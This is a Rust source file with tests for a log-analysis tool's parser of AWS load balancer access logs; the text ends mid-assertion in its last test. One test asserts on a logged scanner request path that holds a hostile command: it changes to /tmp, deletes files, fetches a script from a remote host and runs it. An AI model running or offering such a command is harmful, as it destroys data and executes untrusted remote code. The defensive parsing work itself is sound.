//! Application Load Balancer access logs (and the Classic ELB format).
//!
//! An ALB line is a run of fields separated by single spaces; some fields are
//! wrapped in `"`. Inside quotes a backslash escapes the next byte (so `\"`
//! does not end the field), and ALB itself writes a `"` in a URL as the four
//! bytes `\x22`. Fields are read by position: new fields are appended at the
//! end, so lines with 26, 29, 30, 33 or more fields all parse, and only
//! fields 1–14 are required. The tokenizer stops after `actions_executed`
//! (field 23), the last field fail2waf needs, and never looks at the rest.
//!
//! Lines whose first token is not an ALB request type (`tls` lines of an NLB,
//! anything else AWS may add) are not requests: [`LineParser::parse`] returns
//! `Ok(None)` for them, as it does for blank lines and for ALB connection-log
//! lines. A line that starts with a timestamp is read as a Classic ELB line
//! (`time elb client:port backend:port … "request" "user_agent" …`).

use super::text::{parse_ip_port_bytes, Iso8601Cache};
use super::{parse_iso8601_ms, split_request_line, split_url};
use super::{LineParser, ParseError, ParseResult, StatusSet};
use crate::hit::Hit;
use memchr::{memchr, memchr2};
use std::borrow::Cow;

/// The request types (field 1) of an ALB access-log line.
const ALB_TYPES: [&[u8]; 6] = [b"http", b"https", b"h2", b"grpcs", b"ws", b"wss"];

/// Whether `token` is one of the ALB request types (`http`, `https`, `h2`,
/// `grpcs`, `ws`, `wss`).
pub(crate) fn is_alb_type(token: &[u8]) -> bool {
    ALB_TYPES.contains(&token)
}

/// Parser for ALB access log lines (and Classic ELB lines). One parser may
/// read any number of lines, in any order; it only remembers the minute of
/// the last time it read, to skip re-reading the date. Make one with
/// `AlbParser::default()`.
#[derive(Debug, Default)]
pub struct AlbParser {
    /// Statuses whose requests need their text fields
    /// ([`LineParser::set_detail`]).
    detail: StatusSet,
    times: Iso8601Cache,
}

impl LineParser for AlbParser {
    fn parse<'a>(&mut self, line: &'a [u8]) -> ParseResult<'a> {
        self.parse_with(line, true)
    }

    fn set_detail(&mut self, statuses: &StatusSet) {
        self.detail = statuses.clone();
    }
}

impl AlbParser {
    /// [`LineParser::parse`]; with `shortcut`, the ends of the first
    /// fields are found after the time where [`AlbParser::type_and_time`]
    /// reads it (the same ends: tests hold the two ways equal).
    fn parse_with<'a>(&mut self, line: &'a [u8], shortcut: bool) -> ParseResult<'a> {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        if line.is_empty() {
            return Ok(None);
        }
        // An ALB line's first twelve fields hold no quotes: their ends are
        // found in one pass, which also ends the first field. Where the
        // first is short and AWS's time follows it, the pass starts after
        // the time, which is then read already.
        let mut ends = [0usize; SPACES];
        let (found, time_ms) = match shortcut.then(|| self.type_and_time(line)).flatten() {
            Some((e0, time_ms)) => {
                (ends[0], ends[1]) = (e0, e0 + 1 + TIME);
                (
                    2 + first_spaces(line, e0 + 2 + TIME, &mut ends[2..]),
                    Some(time_ms),
                )
            }
            None => (first_spaces(line, 0, &mut ends), None),
        };
        let first = &line[..if found > 0 { ends[0] } else { line.len() }];
        if is_alb_type(first) {
            self.parse_alb(line, &ends, found, time_ms)
        } else if parse_iso8601_ms(first).is_some() {
            parse_classic(line)
        } else {
            // `tls` (NLB) and any other type: not an ALB request by design.
            Ok(None)
        }
    }
}

/// A tokenizer over the space-separated, optionally quoted fields of a line.
struct Fields<'a> {
    line: &'a [u8],
    /// Start of the next field; `None` once the line is used up.
    pos: Option<usize>,
}

impl<'a> Fields<'a> {
    fn new(line: &'a [u8]) -> Self {
        Fields { line, pos: Some(0) }
    }

    /// The next field, without its quotes; `Ok(None)` at the end of the line.
    /// `name` is the field's name, for the error of an unterminated quote.
    fn next(&mut self, name: &'static str) -> Result<Option<&'a [u8]>, ParseError> {
        let Some(start) = self.pos else {
            return Ok(None);
        };
        let line = self.line;
        if line.get(start) == Some(&b'"') {
            let mut i = start + 1;
            loop {
                let Some(off) = line.get(i..).and_then(|rest| memchr2(b'"', b'\\', rest)) else {
                    return Err(ParseError::new(name, "unterminated quote"));
                };
                let at = i + off;
                if line[at] == b'\\' {
                    // The escaped byte is skipped whatever it is.
                    i = at + 2;
                    continue;
                }
                let value = &line[start + 1..at];
                // Normally a space (or the end) follows the closing quote; be
                // lenient about anything else and resume at the next space.
                self.pos = match line.get(at + 1) {
                    None => None,
                    Some(b' ') => Some(at + 2),
                    Some(_) => memchr(b' ', &line[at + 1..]).map(|j| at + 1 + j + 1),
                };
                return Ok(Some(value));
            }
        }
        // Unquoted fields are short: a plain loop beats a memchr call.
        match line[start..].iter().position(|&b| b == b' ') {
            Some(j) => {
                self.pos = Some(start + j + 1);
                Ok(Some(&line[start..start + j]))
            }
            None => {
                self.pos = None;
                Ok(Some(&line[start..]))
            }
        }
    }

    /// The next field, which must be present.
    fn required(&mut self, name: &'static str) -> Result<&'a [u8], ParseError> {
        self.next(name)?.ok_or(ParseError::new(name, "missing"))
    }

    /// Step over one field that must be present.
    fn skip(&mut self, name: &'static str) -> Result<(), ParseError> {
        self.required(name).map(|_| ())
    }
}

/// Text of a field: borrowed when it is valid UTF-8 (checked with the fast
/// validator), repaired otherwise.
fn text(bytes: &[u8]) -> Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(s) => Cow::Borrowed(s),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

/// `piece` (a sub-slice of `cow`, or a constant such as `"/"`) as a `Cow`
/// that borrows the line where it can.
fn sub<'a>(cow: &Cow<'a, str>, piece: &str) -> Cow<'a, str> {
    if let Cow::Borrowed(whole) = cow {
        // Recover the range of `piece` inside `whole` to keep the line's
        // lifetime; `get` makes this total even for a constant.
        let inside = (piece.as_ptr() as usize)
            .checked_sub(whole.as_ptr() as usize)
            .and_then(|start| whole.get(start..start.checked_add(piece.len())?));
        if let Some(borrowed) = inside {
            return Cow::Borrowed(borrowed);
        }
    }
    if piece == "/" {
        return Cow::Borrowed("/");
    }
    Cow::Owned(piece.to_owned())
}

/// `elb_status_code`: three digits, or `-` (no status: 0).
fn parse_status(field: &[u8], name: &'static str) -> Result<u16, ParseError> {
    if field == b"-" {
        return Ok(0);
    }
    if field.is_empty() || field.len() > 3 || !field.iter().all(u8::is_ascii_digit) {
        return Err(ParseError::new(name, "not a status code"));
    }
    Ok(field
        .iter()
        .fold(0u16, |v, &b| v * 10 + u16::from(b - b'0')))
}

/// `client:port` (IPv6 unbracketed: split at the last colon).
fn parse_peer(field: &[u8], name: &'static str) -> Result<std::net::IpAddr, ParseError> {
    parse_ip_port_bytes(field).ok_or(ParseError::new(name, "not an address:port"))
}

/// Fill method, host and path from the quoted request field.
///
/// A request ALB could not parse is logged as `- http://host:80- -` (or as
/// the raw bytes a scanner sent); it still yields a hit, with method and path
/// `-`.
fn fill_request<'a>(hit: &mut Hit<'a>, request: &'a [u8]) {
    let request = text(request);
    let (method, url) = split_request_line(&request);
    if method == "-" {
        hit.method = Cow::Borrowed("-");
        hit.path = Cow::Borrowed("-");
        // `http://host:80-`: drop the `-` ALB appends, then the port.
        let (host, _) = split_url(url);
        let host = host.strip_suffix('-').unwrap_or(host);
        let host = match host.rsplit_once(':') {
            Some((h, p)) if p.bytes().all(|b| b.is_ascii_digit()) => h,
            _ => host,
        };
        hit.host = if url.contains("://") {
            sub(&request, host)
        } else {
            Cow::Borrowed("")
        };
        return;
    }
    let (host, path) = split_url(url);
    hit.method = sub(&request, method);
    hit.host = sub(&request, host);
    hit.path = sub(&request, path);
}

/// `actions_executed` holds the action `waf` (`waf-failed` does not count).
fn has_waf_action(actions: &[u8]) -> bool {
    actions.split(|&b| b == b',').any(|a| a == b"waf")
}

/// The twelve fields before the request: never quoted.
const PREFIX: [&str; 12] = [
    "type",
    "time",
    "elb",
    "client:port",
    "target:port",
    "request_processing_time",
    "target_processing_time",
    "response_processing_time",
    "elb_status_code",
    "target_status_code",
    "received_bytes",
    "sent_bytes",
];

/// The ends of the fields before the request: the first spaces of a line.
const SPACES: usize = PREFIX.len();

/// The length of AWS's own form of a time, `2026-01-01T00:00:00.000000Z`.
const TIME: usize = 27;

const LO7: u64 = 0x7f7f_7f7f_7f7f_7f7f;

/// High bit set exactly in the bytes of `word` that are spaces (exact
/// zero-byte detection on `word ^ 0x20…`).
fn spaces_of(word: u64) -> u64 {
    let word = word ^ 0x2020_2020_2020_2020;
    !(((word & LO7) + LO7) | word | LO7)
}

/// Positions of the first `ends.len()` spaces of `line` from byte `from`
/// on, eight bytes at a time; returns how many were found.
fn first_spaces(line: &[u8], from: usize, ends: &mut [usize]) -> usize {
    let mut n = 0;
    let mut chunks = line.get(from..).unwrap_or_default().chunks_exact(8);
    let mut base = from;
    for chunk in &mut chunks {
        let mut spaces = spaces_of(u64::from_le_bytes(chunk.try_into().expect("8 bytes")));
        while spaces != 0 {
            ends[n] = base + (spaces.trailing_zeros() / 8) as usize;
            n += 1;
            if n == ends.len() {
                return n;
            }
            spaces &= spaces - 1;
        }
        base += 8;
    }
    for (i, &b) in chunks.remainder().iter().enumerate() {
        if b == b' ' {
            ends[n] = base + i;
            n += 1;
            if n == ends.len() {
                return n;
            }
        }
    }
    n
}

impl AlbParser {
    /// Where a line's first field ends, if within its first eight bytes
    /// (every ALB request type), and the time after it, if in AWS's form
    /// (`T` between date and time, `TIME` bytes, a space after): a time
    /// in that form holds no space, so the field ends just after it.
    fn type_and_time(&mut self, line: &[u8]) -> Option<(usize, i64)> {
        let head = line.first_chunk::<8>()?;
        let spaces = spaces_of(u64::from_le_bytes(*head));
        if spaces == 0 {
            return None;
        }
        let e0 = (spaces.trailing_zeros() / 8) as usize;
        let time = line.get(e0 + 1..e0 + 1 + TIME)?;
        if time[10] != b'T' || line.get(e0 + 1 + TIME) != Some(&b' ') {
            return None;
        }
        Some((e0, self.times.parse(time)?))
    }

    /// An ALB access-log line (first field is a request type), with the
    /// ends of its first fields ([`first_spaces`]) and how many were found.
    fn parse_alb<'a>(
        &mut self,
        line: &'a [u8],
        ends: &[usize; SPACES],
        found: usize,
        time_ms: Option<i64>,
    ) -> ParseResult<'a> {
        if found < SPACES {
            // Field `found` runs to the end of the line: the next one is missing.
            return Err(ParseError::new(
                PREFIX.get(found + 1).copied().unwrap_or("request"),
                "missing",
            ));
        }
        let field = |i: usize| &line[if i == 0 { 0 } else { ends[i - 1] + 1 }..ends[i]];
        let time_ms = time_ms
            .or_else(|| self.times.parse(field(1)))
            .ok_or(ParseError::new("time", "not an ISO 8601 time"))?;
        let peer = parse_peer(field(3), "client:port")?;
        let status = parse_status(field(8), "elb_status_code")?;
        let mut f = Fields {
            line,
            pos: Some(ends[SPACES - 1] + 1).filter(|&p| p < line.len()),
        };
        let request = f.required("request")?;
        let user_agent = f.required("user_agent")?;

        if !self.detail.contains(status) {
            // Both quoted fields were found, so the line parses; their text is
            // not needed (the raw request names the route, should it be).
            // Made where it is returned (a `Hit` made first and then
            // returned is copied: 270 bytes, on most lines).
            return Ok(Some(Hit {
                raw_request: Some(request),
                ..Hit::new(time_ms, peer, status)
            }));
        }
        let mut hit = Hit::new(time_ms, peer, status);
        fill_request(&mut hit, request);
        hit.user_agent = text(user_agent);

        // Optional fields: walk to actions_executed (23) and stop there; only a
        // 403 can be WAF's, so other lines need not be read any further.
        if status != 403 {
            return Ok(Some(hit));
        }
        const BETWEEN: [&str; 8] = [
            "ssl_cipher",
            "ssl_protocol",
            "target_group_arn",
            "trace_id",
            "domain_name",
            "chosen_cert_arn",
            "matched_rule_priority",
            "request_creation_time",
        ];
        for name in BETWEEN {
            if f.next(name)?.is_none() {
                return Ok(Some(hit));
            }
        }
        if let Some(actions) = f.next("actions_executed")? {
            hit.blocked_by_waf = status == 403 && has_waf_action(actions);
        }
        Ok(Some(hit))
    }
}

/// A Classic ELB line (`time elb client:port backend:port …`), or an ALB
/// connection-log line (`time client_ip client_port listener_port …`), which
/// carries no request and gives `Ok(None)`.
fn parse_classic(line: &[u8]) -> ParseResult<'_> {
    let mut f = Fields::new(line);
    let time_ms = parse_iso8601_ms(f.required("time")?)
        .ok_or(ParseError::new("time", "not an ISO 8601 time"))?;
    let elb = f.required("elb")?;
    let client = f.required("client:port")?;
    let peer = match parse_peer(client, "client:port") {
        Ok(peer) => peer,
        Err(e) => {
            // Connection log: a bare client IP, then the client port.
            let bare_ip = std::str::from_utf8(elb)
                .ok()
                .is_some_and(|s| s.parse::<std::net::IpAddr>().is_ok());
            let port = !client.is_empty() && client.iter().all(u8::is_ascii_digit);
            return if bare_ip && port { Ok(None) } else { Err(e) };
        }
    };
    f.skip("backend:port")?;
    f.skip("request_processing_time")?;
    f.skip("backend_processing_time")?;
    f.skip("response_processing_time")?;
    let status = parse_status(f.required("elb_status_code")?, "elb_status_code")?;
    f.skip("backend_status_code")?;
    f.skip("received_bytes")?;
    f.skip("sent_bytes")?;
    let request = f.required("request")?;
    let mut hit = Hit::new(time_ms, peer, status);
    fill_request(&mut hit, request);
    // Classic logs before 2015 end at the request.
    if let Some(user_agent) = f.next("user_agent")? {
        hit.user_agent = text(user_agent);
    }
    Ok(Some(hit))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::testutil::{fixture, fixture_files, fixture_lines, ip, lines, FreshParser};
    use crate::formats::{parse_ip_port, split_url};

    /// The 2018 doc example, HTTP (29 fields).
    const DOC_HTTP: &str = "http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 \"GET http://www.example.com:80/ HTTP/1.1\" \"curl/7.46.0\" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 \"Root=1-58337262-36d228ad5d99923122bbe354\" \"-\" \"-\" 0 2018-07-02T22:22:48.364000Z \"forward\" \"-\" \"-\" \"10.0.0.1:80\" \"200\" \"-\" \"-\"";

    /// 2018-07-02T22:23:00.186641Z
    const DOC_TIME_MS: i64 = 1_530_570_180_186;

    #[test]
    fn without_detail_the_text_is_left_out_and_bad_lines_still_fail() {
        let mut lean = AlbParser::default();
        let mut only_404 = StatusSet::NONE;
        only_404.insert(404);
        lean.set_detail(&only_404);
        let full = AlbParser::hit(DOC_HTTP);
        let h = lean.parse(DOC_HTTP.as_bytes()).unwrap().unwrap();
        assert_eq!(
            (h.time_ms, h.peer, h.status),
            (full.time_ms, full.peer, 200)
        );
        assert_eq!((&*h.path, &*h.method, &*h.user_agent), ("", "", ""));
        let h404 = DOC_HTTP.replacen(" 200 200 ", " 404 404 ", 1);
        assert_eq!(lean.parse(h404.as_bytes()).unwrap().unwrap().path, "/");
        // The quoted fields are still found: a line cut inside one fails alike.
        let cut = &DOC_HTTP[..DOC_HTTP.find("curl").unwrap()];
        assert_eq!(
            lean.parse(cut.as_bytes()),
            AlbParser::parse_line(cut.as_bytes())
        );
        assert!(AlbParser::parse_line(cut.as_bytes()).is_err());
    }

    /// Every file under `alb/` and `alb_connection/`, with its expected
    /// (parsed, skipped, rejected) line counts.
    const EXPECTED: &[(&str, (usize, usize, usize))] = &[
        ("alb/awsdocs_examples_2023.log", (7, 0, 0)),
        (
            "alb/dpetzold/classic_loadbalancer_http_entry.csv",
            (1, 0, 0),
        ),
        (
            "alb/dpetzold/loadbalancer_cloudfront_forward.csv",
            (1, 0, 0),
        ),
        (
            "alb/dpetzold/loadbalancer_cloudfront_forward_h2.csv",
            (1, 0, 0),
        ),
        (
            "alb/dpetzold/loadbalancer_cloudfront_forward_refused.csv",
            (1, 0, 0),
        ),
        ("alb/dpetzold/loadbalancer_http2_entry.csv", (1, 0, 0)),
        (
            "alb/dpetzold/loadbalancer_http2_entry_auth_error.csv",
            (1, 0, 0),
        ),
        (
            "alb/dpetzold/loadbalancer_http2_entry_auth_missing.csv",
            (1, 0, 0),
        ),
        ("alb/dpetzold/loadbalancer_http_entry.csv", (1, 0, 0)),
        ("alb/dpetzold/loadbalancer_https_entry.csv", (1, 0, 0)),
        ("alb/dpetzold/loadbalancer_lambda_entry.csv", (1, 0, 0)),
        (
            "alb/dpetzold/loadbalancer_lambda_failed_entry.csv",
            (1, 0, 0),
        ),
        (
            "alb/dpetzold/loadbalancer_secured_websockets_entry.csv",
            (1, 0, 0),
        ),
        ("alb/dpetzold/loadbalancer_websockets_entry.csv", (1, 0, 0)),
        ("alb/elastic_alb_only.log", (3, 0, 0)),
        // 3 ALB lines, 4 NLB `tls` lines, 3 connection-log lines.
        ("alb/elastic_integrations_test-alb.log", (3, 7, 0)),
        ("alb/elastic_nlb_tls_NOT_ALB.log", (0, 4, 0)),
        ("alb/jdwit/sample.log", (5, 0, 0)),
        ("alb/real_excerpt_azul_pr4920_truncated.log", (1, 0, 0)),
        ("alb/synthesized/awsdocs_examples_2023.log.gz", (7, 0, 0)),
        (
            "alb/synthesized/awsdocs_examples_2023_multimember.log.gz",
            (7, 0, 0),
        ),
        ("alb/synthesized/current_33_fields.log", (1, 0, 0)),
        ("alb/synthesized/elb_502_no_target_status.log", (1, 0, 0)),
        // A good line, a blank line, a line cut inside the request.
        (
            "alb/synthesized/file_with_blank_and_truncated_last_line.log",
            (1, 1, 1),
        ),
        ("alb/synthesized/future_trailing_fields.log", (1, 0, 0)),
        ("alb/synthesized/ipv6_client_404.log", (1, 0, 0)),
        ("alb/synthesized/trailing_cr.log", (1, 0, 0)),
        ("alb/synthesized/ua_backslash_escaped_quote.log", (1, 0, 0)),
        ("alb/synthesized/ua_hex_escaped_quote.log", (1, 0, 0)),
        ("alb/synthesized/waf_blocked_403.log", (1, 0, 0)),
        ("alb/vrl_lines.log", (13, 0, 0)),
        ("alb_connection/elastic_alb_connection.log", (0, 3, 0)),
    ];

    #[test]
    fn every_fixture_file_has_its_counts() {
        let mut files = fixture_files("alb");
        files.extend(fixture_files("alb_connection"));
        for file in &files {
            if file.ends_with(".jsonl") {
                continue; // vrl_expected_values
            }
            let want = EXPECTED
                .iter()
                .find(|(f, _)| f == file)
                .unwrap_or_else(|| panic!("fixture {file} has no expected counts"))
                .1;
            assert_eq!(
                AlbParser::parse_all(&fixture(file)).counts(),
                want,
                "{file}"
            );
        }
        assert_eq!(files.len(), EXPECTED.len() + 1, "{files:?}");
    }

    #[test]
    fn doc_examples() {
        let bytes = fixture("alb/awsdocs_examples_2023.log");
        let hits: Vec<Hit> = lines(&bytes).into_iter().map(AlbParser::hit).collect();
        let h = &hits[0];
        assert_eq!(h.time_ms, DOC_TIME_MS);
        assert_eq!(h.peer, ip("192.168.131.39"));
        assert_eq!(h.status, 200);
        assert_eq!(h.method, "GET");
        assert_eq!(h.host, "www.example.com");
        assert_eq!(h.path, "/");
        assert_eq!(h.user_agent, "curl/7.46.0");
        assert_eq!(h.forwarded_for, None);
        assert_eq!(h.waf, None);
        assert!(!h.blocked_by_waf);
        // h2 with an IP host and an odd port.
        assert_eq!(hits[2].peer, ip("10.0.1.252"));
        assert_eq!(hits[2].host, "10.0.2.105");
        // ws: user agent `-` is kept as logged.
        assert_eq!(hits[3].status, 101);
        assert_eq!(hits[3].user_agent, "-");
        // Lambda failed: 502, target status `-`.
        assert_eq!(hits[6].status, 502);
        assert_eq!(
            hits[6].time_ms,
            parse_iso8601_ms(b"2018-11-30T22:23:00.186641Z").unwrap()
        );
        let statuses: Vec<u16> = hits.iter().map(|h| h.status).collect();
        assert_eq!(statuses, [200, 200, 200, 101, 101, 200, 502]);
    }

    #[test]
    fn normal_line_borrows_everything() {
        let h = AlbParser::hit(DOC_HTTP);
        for cow in [&h.method, &h.path, &h.host, &h.user_agent] {
            assert!(matches!(cow, Cow::Borrowed(_)), "{cow:?}");
        }
    }

    #[test]
    fn gzip_multimember_gives_all_lines() {
        let plain = fixture("alb/awsdocs_examples_2023.log");
        for gz in [
            "alb/synthesized/awsdocs_examples_2023.log.gz",
            "alb/synthesized/awsdocs_examples_2023_multimember.log.gz",
        ] {
            let bytes = fixture(gz);
            assert_eq!(lines(&bytes).len(), 7, "{gz}");
            assert_eq!(bytes, plain, "{gz}");
        }
    }

    #[test]
    fn classic_elb() {
        let bytes = fixture("alb/dpetzold/classic_loadbalancer_http_entry.csv");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(
            h.time_ms,
            parse_iso8601_ms(b"2015-05-13T23:39:43.945Z").unwrap()
        );
        assert_eq!(h.peer, ip("192.168.131.39"));
        assert_eq!(h.status, 200);
        assert_eq!(h.method, "GET");
        assert_eq!(h.host, "www.example.com");
        assert_eq!(h.path, "/");
        assert_eq!(h.user_agent, "curl/7.38.0");
        assert!(!h.blocked_by_waf);
        // Pre-2015 Classic lines end at the request.
        let old = "2014-02-15T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\"";
        let h = AlbParser::hit(old);
        assert_eq!((h.status, &*h.path, &*h.user_agent), (200, "/", ""));
        // TCP listener: no status.
        let tcp = "2014-02-15T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001069 0.000028 0.000041 - - 82 305 \"- - - \" \"-\" - -";
        let h = AlbParser::hit(tcp);
        assert_eq!((h.status, &*h.method, &*h.path), (0, "-", "-"));
        // Errors name the Classic field.
        let bad = "2014-02-15T23:39:43.945958Z my-loadbalancer nowhere 10.0.0.1:80";
        assert_eq!(AlbParser::failing_field(bad.as_bytes()), "client:port");
    }

    #[test]
    fn connection_log_lines_are_skipped() {
        let bytes = fixture("alb_connection/elastic_alb_connection.log");
        for line in lines(&bytes) {
            assert_eq!(AlbParser::parse_line(line), Ok(None));
        }
        let v6 = "2024-10-04T17:05:15.514108Z 2001:db8::1 36280 443 TLSv1.2 - - \"-\" - - - TID_1";
        assert_eq!(AlbParser::parse_line(v6.as_bytes()), Ok(None));
    }

    #[test]
    fn nlb_lines_are_skipped() {
        let bytes = fixture("alb/elastic_nlb_tls_NOT_ALB.log");
        for line in lines(&bytes) {
            assert_eq!(AlbParser::parse_line(line), Ok(None));
        }
        assert_eq!(AlbParser::parse_line(b"tls"), Ok(None));
        assert_eq!(AlbParser::parse_line(b"udp 1 2 3"), Ok(None));
    }

    #[test]
    fn elastic_scanner_and_malformed_lines() {
        let bytes = fixture("alb/elastic_alb_only.log");
        let l = lines(&bytes);
        let h = AlbParser::hit(l[1]);
        assert_eq!(h.peer, ip("67.43.156.20"));
        assert_eq!(h.status, 301);
        assert_eq!(h.method, "GET");
        assert_eq!(h.host, "127.0.0.1");
        // The space inside the URL stays in the path.
        assert_eq!(
            h.path,
            "/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
        );
        assert_eq!(h.user_agent, "Hello, world");
        assert_eq!(
            h.time_ms,
            parse_iso8601_ms(b"2022-05-12T06:41:29.051Z").unwrap()
        );
        // `"- http://internal-service-alb.example.com:80-/ "`: still a hit.
        let h = AlbParser::hit(l[2]);
        assert_eq!(h.peer, ip("127.0.0.1"));
        assert_eq!(h.status, 200);
        assert_eq!(h.method, "-");
        assert_eq!(h.path, "-");
        assert_eq!(h.host, "internal-service-alb.example.com");
        assert!(!h.blocked_by_waf);
    }

    #[test]
    fn malformed_and_binary_requests_count() {
        let base = DOC_HTTP.replace(" 200 200 ", " 400 - ");
        let malformed = base.replace(
            "GET http://www.example.com:80/ HTTP/1.1",
            "- http://www.example.com:80- -",
        );
        let h = AlbParser::hit(&malformed);
        assert_eq!(
            (h.status, &*h.method, &*h.path, &*h.host),
            (400, "-", "-", "www.example.com")
        );
        let binary = base.replace(
            "GET http://www.example.com:80/ HTTP/1.1",
            "\\x16\\x03\\x01\\x00\\xF4\\x01",
        );
        let h = AlbParser::hit(&binary);
        assert_eq!(
            (h.status, &*h.method, &*h.path, &*h.host),
            (400, "-", "-", "")
        );
        let empty = base.replace("GET http://www.example.com:80/ HTTP/1.1", "");
        let h = AlbParser::hit(&empty);
        assert_eq!((h.status, &*h.method, &*h.path), (400, "-", "-"));
        // Raw invalid UTF-8 in the request: repaired, still a hit.
        let mut raw = base.into_bytes();
        let at = raw.windows(4).position(|w| w == b"GET ").unwrap();
        raw[at + 4 + 7] = 0xFF;
        let h = AlbParser::hit(&raw);
        assert_eq!(h.status, 400);
        assert!(matches!(h.path, Cow::Owned(_)) || matches!(h.host, Cow::Owned(_)));
        assert!(h.host.contains('\u{FFFD}'), "{:?}", h.host);
    }

    #[test]
    fn dash_and_minus_one() {
        // -1 processing times, target `-`, status `-`, rule priority -1.
        let bytes = fixture("alb/dpetzold/loadbalancer_http2_entry_auth_error.csv");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(h.status, 401);
        assert_eq!(h.path, "/oauth2/idpresponse?code=XXXXX");
        let no_status = DOC_HTTP.replace(" 200 200 ", " - - ");
        assert_eq!(AlbParser::hit(&no_status).status, 0);
        let priority = DOC_HTTP.replace(" 0 2018-07-02T22:22:48", " - 2018-07-02T22:22:48");
        assert_eq!(AlbParser::hit(&priority).status, 200);
    }

    #[test]
    fn quotes_inside_quoted_fields() {
        let bytes = fixture("alb/synthesized/ua_backslash_escaped_quote.log");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(
            h.user_agent,
            r#"Dalvik/2.1.0 (Linux; U; Android 5.1; Alba 10\" Build/LMY47I)"#
        );
        let bytes = fixture("alb/synthesized/ua_hex_escaped_quote.log");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(
            h.user_agent,
            r"Mozilla/5.0 (Linux; Android 5.1; Alba 10\x22 Build/LMY47I)"
        );
        // The real line: `"` in the URL logged as `\x22`; cut after field 22.
        let bytes = fixture("alb/real_excerpt_azul_pr4920_truncated.log");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(h.status, 400);
        assert_eq!(h.peer, ip("172.71.1.216"));
        assert_eq!(h.method, "GET");
        assert_eq!(h.host, "gitlab.dev.singlecell.gi.ucsc.edu");
        assert_eq!(h.path, r"/QUOTE_EXPERIMENT?bar=\x22");
        // An escaped quote does not hide the fields after it: `waf` is
        // still found in actions_executed.
        let escaped = DOC_HTTP
            .replace(" 200 200 ", " 403 - ")
            .replace("\"curl/7.46.0\"", r#""a \" b\\""#)
            .replace("\"forward\"", "\"waf\"");
        let h = AlbParser::hit(&escaped);
        assert_eq!(h.user_agent, r#"a \" b\\"#);
        assert!(h.blocked_by_waf);
    }

    #[test]
    fn ipv6_client() {
        let bytes = fixture("alb/synthesized/ipv6_client_404.log");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(h.peer, ip("2001:db8:85a3::8a2e:370:7334"));
        assert_eq!(h.status, 404);
    }

    #[test]
    fn field_count_drift() {
        let base = AlbParser::hit(DOC_HTTP);
        for file in [
            "alb/synthesized/current_33_fields.log",
            "alb/synthesized/future_trailing_fields.log",
            "alb/synthesized/trailing_cr.log",
            "alb/synthesized/elb_502_no_target_status.log",
        ] {
            let bytes = fixture(file);
            let h = AlbParser::hit(lines(&bytes)[0]);
            let want_status = if file.contains("502") { 502 } else { 200 };
            assert_eq!(
                h,
                Hit {
                    status: want_status,
                    ..base.clone()
                },
                "{file}"
            );
        }
        // 26 fields (dpetzold), 30 (vrl, jdwit): checked by their counts;
        // here the shortest line: fields 1–14 only.
        // (The request is three tokens: fields 1–14 are 16 tokens.)
        let cut = DOC_HTTP.split(' ').take(16).collect::<Vec<_>>().join(" ");
        let h = AlbParser::hit(&cut);
        assert_eq!((h.status, &*h.user_agent), (200, "curl/7.46.0"));
    }

    #[test]
    fn trailing_cr_is_ignored() {
        let with_cr = format!("{DOC_HTTP}\r");
        assert_eq!(AlbParser::hit(&with_cr), AlbParser::hit(DOC_HTTP));
        assert_eq!(AlbParser::parse_line(b"\r"), Ok(None));
        assert_eq!(AlbParser::parse_line(b""), Ok(None));
    }

    #[test]
    fn waf_blocked() {
        let bytes = fixture("alb/synthesized/waf_blocked_403.log");
        let h = AlbParser::hit(lines(&bytes)[0]);
        assert_eq!(h.status, 403);
        assert!(h.blocked_by_waf);
        // `waf,forward` on a 502 (dpetzold): WAF allowed it.
        let bytes = fixture("alb/dpetzold/loadbalancer_cloudfront_forward.csv");
        assert!(!AlbParser::hit(lines(&bytes)[0]).blocked_by_waf);
        let blocked = |actions: &str, status: &str| {
            let line = DOC_HTTP
                .replace(" 200 200 ", &format!(" {status} - "))
                .replace("\"forward\"", &format!("\"{actions}\""));
            AlbParser::hit(&line).blocked_by_waf
        };
        assert!(blocked("waf", "403"));
        assert!(blocked("forward,waf", "403"));
        assert!(!blocked("waf-failed", "403"));
        assert!(!blocked("waf-failed,forward", "403"));
        assert!(!blocked("waf", "200"));
        assert!(!blocked("forward", "403"));
        assert!(!blocked("-", "403"));
    }

    #[test]
    fn jdwit_statuses_and_methods() {
        let bytes = fixture("alb/jdwit/sample.log");
        let got: Vec<(u16, String, String)> = lines(&bytes)
            .into_iter()
            .map(AlbParser::hit)
            .map(|h| (h.status, h.method.into_owned(), h.path.into_owned()))
            .collect();
        let want = [
            (200, "GET", "/v1/users?page=1"),
            (201, "POST", "/v1/users"),
            (404, "GET", "/v1/users/999"),
            (500, "PUT", "/v1/orders/123"),
            (204, "DELETE", "/v1/sessions/abc123"),
        ];
        for (g, w) in got.iter().zip(want) {
            assert_eq!((g.0, g.1.as_str(), g.2.as_str()), w);
        }
    }

    #[test]
    fn vrl_expected_values() {
        let bytes = fixture("alb/vrl_parse_aws_alb_log_tests.jsonl");
        let cases = lines(&bytes);
        assert_eq!(cases.len(), 13);
        for case in cases {
            let case: serde_json::Value = serde_json::from_slice(case).unwrap();
            let name = case["name"].as_str().unwrap();
            let want = &case["expected"];
            let line = case["line"].as_str().unwrap();
            // Line `thirteen` has the transform fields, which VRL's strict
            // mode rejects: we parse it.
            let h = AlbParser::hit(line);
            let s = |k: &str| want[k].as_str();
            assert_eq!(
                Some(h.peer),
